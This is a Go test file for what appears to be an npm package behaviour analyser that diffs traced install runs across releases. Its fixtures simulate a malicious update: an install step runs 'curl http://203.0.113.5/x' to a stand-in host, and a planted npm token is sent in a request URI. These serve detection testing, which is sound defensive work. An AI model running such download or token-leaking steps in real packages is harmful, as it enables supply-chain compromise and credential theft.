package report

import (
	"encoding/json"
	"slices"
	"testing"

	"github.com/fumehood/fumehood/analysis"
	"github.com/fumehood/fumehood/trace"
)

// release makes an analysis of version v of the package of install(),
// with the run's own random names: a planted token, a UUID in the URI, a
// temporary directory and a time stamp.
func release(v, token, uuid, tmp string, extra ...trace.Event) (*analysis.Analysis, *trace.Trace) {
	a, tr := install()
	a.Package = analysis.Package{Ecosystem: "npm", Name: "x", Version: v}
	evs := []trace.Event{{Kind: trace.KindPlant, Name: "npm-token", Path: "/home/u/.npmrc", Data: []byte(token)}}
	for _, e := range tr.Events {
		switch e.Kind {
		case trace.KindHTTP:
			e.URI = "/c/" + uuid + "?t=" + token
		case trace.KindExec:
			if e.TGID == 2 {
				e.Argv = []string{"npm", "install", "/home/u/x-" + v + ".tgz"}
			}
		case trace.KindOpen:
			if e.TGID == 4 {
				e.Path = "/tmp/" + tmp + "/log-2026-03-04T05_06_07_123Z"
			}
		}
		evs = append(evs, e)
	}
	evs = append(evs[:len(evs)-3], append(extra, evs[len(evs)-3:]...)...)
	out := &trace.Trace{Phases: tr.Phases}
	out.Append("install", evs)
	out.Events[0].Phase = "setup"
	out.Processes = trace.BuildTable(out, testPolicy()).Processes()
	return a, out
}

func behaviour(a *analysis.Analysis, tr *trace.Trace) Behaviour {
	return Summarise(a, tr, Build(a, tr))
}

func TestDiffSameBehaviour(t *testing.T) {
	a1, t1 := release("1.0.0", "npm_AAAAAAAAAAAA", "0b7e1c2a-1111-4222-8333-444455556666", "npm-12-abcdef")
	a2, t2 := release("1.0.1", "npm_BBBBBBBBBBBB", "9f00aa11-2222-4333-8444-555566667777", "npm-98-zyxwvu")
	c := Diff("a", behaviour(a1, t1), "b", behaviour(a2, t2))
	if !c.Empty() {
		b, _ := json.MarshalIndent(c, "", " ")
		t.Errorf("two runs of one behaviour differ:\n%s", b)
	}
}

func TestDiffChanges(t *testing.T) {
	a1, t1 := release("1.0.0", "npm_AAAAAAAAAAAA", "0b7e1c2a-1111-4222-8333-444455556666", "npm-12-abcdef")
	a2, t2 := release("1.0.1", "npm_BBBBBBBBBBBB", "9f00aa11-2222-4333-8444-555566667777", "npm-98-zyxwvu",
		trace.Event{Kind: trace.KindFork, TGID: 4, PID: 4, Start: 4000, ChildPID: 5, ChildStart: 5000},
		trace.Event{Kind: trace.KindExec, TGID: 5, PID: 5, Start: 5000, PPID: 4, Path: "/usr/bin/curl", Argv: []string{"curl", "http://203.0.113.5/x"}},
		trace.Event{Kind: trace.KindConnect, TGID: 5, PID: 5, Start: 5000, Family: 2, Addr: "203.0.113.5", Port: 80},
	)
	a2.Hits = append(a2.Hits, analysis.Hit{Rule: "download-exec"})
	a2.Coverage.Scripts = append(a2.Coverage.Scripts, analysis.ScriptRun{Phase: "install", Name: "install", Command: "node y.js"})
	a2.Coverage.Scripts[0].Command = "node x.js --fast"
	c := Diff("a", behaviour(a1, t1), "b", behaviour(a2, t2))
	want := analysis.Changes{From: "a", To: "b",
		Hits:      analysis.Change{Added: []string{"download-exec"}, Removed: []string{}},
		Processes: analysis.Change{Added: []string{"install package_code /usr/bin/curl curl http://203.0.113.5/x"}, Removed: []string{}},
		Network:   analysis.Change{Added: []string{"install connect 203.0.113.5:80"}, Removed: []string{}},
		Files:     analysis.Change{Added: []string{}, Removed: []string{}},
		Scripts: analysis.ScriptChanges{Added: []string{"install install: node y.js"}, Removed: []string{},
			Changed:    []string{"install postinstall: node x.js -> node x.js --fast"},
			Uncompared: []string{"install preinstall: true (files not compared: analysis a did not record them)"}},
	}
	got, _ := json.Marshal(c)
	w, _ := json.Marshal(want)
	if string(got) != string(w) {
		t.Errorf("Diff:\n got %s\nwant %s", got, w)
	}
	back := Diff("b", behaviour(a2, t2), "a", behaviour(a1, t1))
	if !slices.Equal(back.Hits.Removed, c.Hits.Added) || !slices.Equal(back.Network.Removed, c.Network.Added) {
		t.Errorf("Diff is not symmetric: %+v", back)
	}
}

// NewScripts names the scripts a version adds or changes, compared after
// normalising: a command that differs only by the version or a run's
// random names is the same script.
func TestNewScripts(t *testing.T) {
	a1, t1 := release("1.0.0", "npm_AAAAAAAAAAAA", "0b7e1c2a-1111-4222-8333-444455556666", "npm-12-abcdef")
	tests := []struct {
		name    string
		scripts []analysis.ScriptRun
		want    []string
	}{
		{"same", nil, []string{}},
		{"only the version differs", []analysis.ScriptRun{{Phase: "install", Name: "postinstall", Command: "node x.js 1.0.1"}}, []string{}},
		{"added and changed", []analysis.ScriptRun{
			{Phase: "install", Name: "postinstall", Command: "node x.js --fast"},
			{Phase: "install", Name: "preinstall", Command: "node y.js"}}, []string{"install postinstall", "install preinstall"}},
		{"removed only", []analysis.ScriptRun{}, []string{}},
	}
	a1.Coverage.Scripts[0].Command = "node x.js 1.0.0"
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a2, t2 := release("1.0.1", "npm_BBBBBBBBBBBB", "9f00aa11-2222-4333-8444-555566667777", "npm-98-zyxwvu")
			a2.Coverage.Scripts = []analysis.ScriptRun{{Phase: "install", Name: "postinstall", Command: "node x.js 1.0.1"}}
			if tt.scripts != nil {
				a2.Coverage.Scripts = tt.scripts
			}
			got := NewScripts(a1, t1, a2, t2)
			if !slices.Equal(got, tt.want) && len(got)+len(tt.want) > 0 {
				t.Errorf("NewScripts = %q, want %q", got, tt.want)
			}
		})
	}
}
